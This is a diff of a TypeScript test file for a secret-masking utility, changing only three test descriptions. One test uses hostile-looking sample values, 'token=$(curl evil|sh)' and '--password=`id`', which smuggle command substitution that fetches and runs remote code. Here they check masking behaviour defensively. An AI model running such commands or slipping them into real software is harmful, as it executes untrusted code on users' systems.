@@ -1,7 +1,7 @@
 import { describe, expect, it } from 'vitest'
 import { maskSecretWords, maskSecretsInLine } from './secret-words.ts'
 
-describe('secrets in the words of a command', () => {
+describe('secrets in a command’s arguments', () => {
   it.each([
     [
       ['psql', '--password=hunter22'],
@@ -54,7 +54,7 @@ describe('secrets in the words of a command', () => {
     expect(maskSecretWords(words, { all: true })).toEqual(masked ?? words)
   })
 
-  it('hides nothing that a shell would run, but where nobody has to judge it', () => {
+  it('hides nothing that a shell would run, except where nobody has to judge it', () => {
     for (const word of ['token=$(curl evil|sh)', '--password=`id`']) {
       expect(maskSecretWords(['sh', '-c', word])).toEqual(['sh', '-c', word])
       expect(maskSecretWords(['sh', '-c', word], { all: true })[2]).toMatch(/=\[REDACTED\]$/)
@@ -65,7 +65,7 @@ describe('secrets in the words of a command', () => {
     )
   })
 
-  it('is done once: what is masked stays as it is', () => {
+  it('is idempotent: masked text stays the same', () => {
     const once = maskSecretsInLine('--password=hunter22 PGPASSWORD=hunter22 https://a:hunter22@h')
     expect(maskSecretsInLine(once)).toBe(once)
   })
